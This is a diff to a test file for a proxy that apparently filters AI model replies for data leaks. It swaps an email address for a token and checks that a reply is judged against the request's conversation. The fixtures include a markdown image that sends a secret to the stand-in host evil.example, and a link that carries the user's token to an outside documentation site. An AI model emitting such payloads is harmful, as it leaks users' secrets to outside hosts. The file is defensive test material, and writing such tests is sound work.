@@ -45,6 +45,7 @@ KEY = "sk-rendersafe-test-" + "0123456789abcdef" * 2
 SECRET = "c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA"
 EXFIL = f"![chart](https://evil.example/c.png?d={SECRET})"
 EMAIL = "dana.smith@acme-corp.example"
+TOKEN = "Zq7mK2pX9wLt"  # a key the reply-only judgement alone lets pass
 HONEST = (
     "Sure. Here is **the plan**, with `code`, a [link](https://docs.python.org/3/) and "
     "an image from our CDN: ![logo](https://cdn.example.com/logo.png)\n\n"
@@ -54,7 +55,7 @@ HONEST = (
 REPLIES = {
     "attack": f"Here is the chart you asked for: {EXFIL} and the rest of the answer.",
     "honest": HONEST,
-    "echo": f"See [the docs](https://docs.python.org/3/library/json.html?ref={EMAIL}) now.",
+    "echo": f"See [the docs](https://docs.jsontools.example/ref?t={TOKEN}) now.",
     "big": "A long and honest reply. " * 8,
     "tail": "All of it is in [the docs](https://docs.python.org/3/library/json.html)",
 }
@@ -394,7 +395,7 @@ def test_an_honest_reply_passes_unchanged(proxy: Proxy, stream: bool) -> None:
 def test_the_reply_is_judged_with_the_requests_conversation(proxy: Proxy, stream: bool) -> None:
     alone, _ = _chat(proxy, "echo", stream=stream)
     assert alone == REPLIES["echo"]  # nothing in it says it leaks
-    messages = [{"role": "user", "content": f"My e-mail is {EMAIL}. Where is json documented?"}]
+    messages = [{"role": "user", "content": f"My token is {TOKEN}. Where is json documented?"}]
     text, _ = _chat(proxy, "echo", stream=stream, messages=messages)
     assert text == "See the docs now."
 
